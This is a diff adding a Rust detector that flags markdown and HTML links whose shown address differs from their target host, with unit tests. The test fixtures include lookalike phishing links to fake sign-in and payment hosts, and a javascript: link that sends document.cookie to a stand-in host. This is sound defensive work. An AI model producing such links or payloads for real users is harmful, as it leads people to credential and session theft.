@@ -1,0 +1,155 @@
+//! Links whose text shows one address and whose target is another: the markdown
+//! `[https://accounts.google.com](https://accounts-google.signin.example/)` or the HTML
+//! `<a href="...">` a model renders for the user, who sees the familiar address and follows
+//! the other. A link whose text is not an address ("[the docs](...)") says nothing about its
+//! target and is left alone; one whose target is the shown host or a subdomain of it agrees.
+
+use super::evidence::show_invisible;
+use super::{Finding, Severity};
+
+/// Longest link text and target read (a link longer than this is not one a reader takes in).
+const MAX_TEXT: usize = 200;
+const MAX_TARGET: usize = 2048;
+
+/// Reports each link in `text` whose shown address and target host disagree.
+pub(super) fn scan(text: &str, field: &str, out: &mut Vec<Finding>) {
+    for (start, shown, target) in markdown_links(text).chain(html_links(text)) {
+        let Some(shown_host) = host_shown(shown) else { continue };
+        let agrees = host_of_target(target).is_some_and(|t| same_site(&shown_host, &t));
+        if !agrees {
+            let end = (start + shown.len() + target.len() + 24).min(text.len());
+            let end = (end..=text.len()).find(|&i| text.is_char_boundary(i)).unwrap_or(text.len());
+            let evidence = show_invisible(&text[start..end]).chars().take(MAX_TEXT + 40).collect();
+            out.push(Finding::new("deceptive-link", Severity::High, field, evidence));
+        }
+    }
+}
+
+/// `[shown](target)`: (offset of `[`, shown, target).
+fn markdown_links(text: &str) -> impl Iterator<Item = (usize, &str, &str)> {
+    text.match_indices("](").filter_map(move |(close, _)| {
+        let open = text[..close].rfind('[')?;
+        let shown = &text[open + 1..close];
+        if shown.len() > MAX_TEXT || shown.contains(']') {
+            return None;
+        }
+        let rest = &text[close + 2..];
+        let end = rest.find([')', ' ', '\n', '\t'])?;
+        let target = rest[..end].trim_start_matches('<').trim_end_matches('>');
+        (target.len() <= MAX_TARGET).then_some((open, shown, target))
+    })
+}
+
+/// `<a ... href="target" ...>shown</a>`: (offset of `<a`, shown, target).
+fn html_links(text: &str) -> impl Iterator<Item = (usize, &str, &str)> {
+    let opens = |w: &[u8]| w[0] == b'<' && w[1].eq_ignore_ascii_case(&b'a') && w[2].is_ascii_whitespace();
+    // Most text has no anchor: it is not lower-cased for nothing.
+    let lower = if text.as_bytes().windows(3).any(opens) { text.to_ascii_lowercase() } else { String::new() };
+    let starts: Vec<usize> =
+        lower.as_bytes().windows(3).enumerate().filter(|(_, w)| opens(w)).map(|(i, _)| i).collect();
+    starts.into_iter().filter_map(move |start| {
+        let tag_end = start + text[start..].find('>')?;
+        let tag = &lower[start..tag_end];
+        let href = tag.find("href")?;
+        let after = tag[href + 4..].trim_start().strip_prefix('=')?.trim_start();
+        let offset = tag_end - tag.len() + (tag.len() - after.len());
+        let (quote, inner) = match after.as_bytes().first()? {
+            q @ (b'"' | b'\'') => (Some(*q as char), offset + 1),
+            _ => (None, offset),
+        };
+        let len = match quote {
+            Some(q) => text[inner..tag_end].find(q)?,
+            None => text[inner..tag_end].find([' ', '\t', '\n']).unwrap_or(tag_end - inner),
+        };
+        let target = &text[inner..inner + len];
+        let close = tag_end + 1 + lower[tag_end + 1..].find("</a")?;
+        let shown = text[tag_end + 1..close].trim();
+        (shown.len() <= MAX_TEXT && target.len() <= MAX_TARGET).then_some((start, shown, target))
+    })
+}
+
+/// The host a link's text shows, when the text is an address (a URL, or a bare domain with an
+/// optional path): lower case, without `www.`.
+fn host_shown(shown: &str) -> Option<String> {
+    let s = shown.trim().trim_matches(|c| matches!(c, '`' | '*' | '_' | '<' | '>'));
+    let rest = match s.find("://") {
+        Some(i) if s[..i].chars().all(|c| c.is_ascii_alphabetic()) => &s[i + 3..],
+        Some(_) => return None,
+        None => s,
+    };
+    let host = rest.split(['/', '?', '#', ':']).next()?.rsplit('@').next()?.to_lowercase();
+    let host = host.trim_end_matches('.');
+    let labels: Vec<&str> = host.split('.').collect();
+    let tld = labels.last()?;
+    let looks_like_domain = labels.len() >= 2
+        && labels.iter().all(|l| !l.is_empty() && l.chars().all(|c| c.is_alphanumeric() || c == '-'))
+        && tld.len() >= 2
+        && tld.chars().all(char::is_alphabetic);
+    looks_like_domain.then(|| host.strip_prefix("www.").unwrap_or(host).to_owned())
+}
+
+/// The host of an absolute target (`scheme://host...`), lower case, without `www.`; `None` for
+/// a target with a scheme but no host (`javascript:`, `data:`), which no shown address names.
+/// A relative target stays on the page's own site: it is given as the shown host's match.
+fn host_of_target(target: &str) -> Option<String> {
+    let t = target.trim();
+    let Some(i) = t.find(':') else { return Some(String::new()) };
+    if !t[..i].chars().all(|c| c.is_ascii_alphabetic()) || t.starts_with('/') {
+        return Some(String::new());
+    }
+    let rest = t[i + 1..].strip_prefix("//")?;
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit('@').next()?.split(':').next()?.to_lowercase();
+    let host = host.trim_end_matches('.');
+    Some(host.strip_prefix("www.").unwrap_or(host).to_owned())
+}
+
+/// Whether the target host is the shown one (the empty host of a relative target included),
+/// a subdomain of it, or the site the shown subdomain belongs to.
+fn same_site(shown: &str, target: &str) -> bool {
+    let under = |a: &str, b: &str| a.len() > b.len() && a.ends_with(b) && a.as_bytes()[a.len() - b.len() - 1] == b'.';
+    target.is_empty() || shown == target || under(target, shown) || under(shown, target)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(text: &str) -> bool {
+        let mut out = Vec::new();
+        scan(text, "#/description", &mut out);
+        out.iter().any(|f| f.kind == "deceptive-link" && f.severity == Severity::High)
+    }
+
+    #[test]
+    fn a_shown_address_that_is_not_the_target_is_deceptive() {
+        for text in [
+            "sign in again at [https://accounts.google.com/signin](https://accounts-google.com.signin-verify.co/v3/signin?continue=drive)",
+            "Open [github.com/settings/tokens](http://github.com.token-check.example/)",
+            "Pay at [www.paypal.com](https://paypa1.com/checkout) now",
+            "[https://bank.example/login](javascript:fetch('https://x.example/'+document.cookie))",
+            r#"Visit <a href="https://login.micros0ft.example/auth">https://login.microsoftonline.com</a> to re-authenticate."#,
+            "See [docs.python.org](<https://docs.python.org.evil.example/3/>)",
+        ] {
+            assert!(found(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn links_that_agree_or_show_no_address_are_not() {
+        for text in [
+            "See [the documentation](https://docs.example.com/guide) for details.",
+            "[github.com/org/repo](https://github.com/org/repo)",
+            "[example.com](https://www.example.com/path?q=1)",
+            "[python.org](https://docs.python.org/3/library/json.html)",
+            "[docs.rust-lang.org](https://rust-lang.org/learn)",
+            "Relative: [api.example.com/v1](/v1/reference)",
+            r#"<a href="https://en.wikipedia.org/wiki/JSON">en.wikipedia.org/wiki/JSON</a>"#,
+            r#"<a href='https://example.org'>Example</a>"#,
+            "Array index [0](1) and a footnote [1](#note-1)",
+            "a map m[key](value) in pseudo-code, and [v1.2](https://github.com/o/r/releases/tag/v1.2)",
+        ] {
+            assert!(!found(text), "{text}");
+        }
+    }
+}
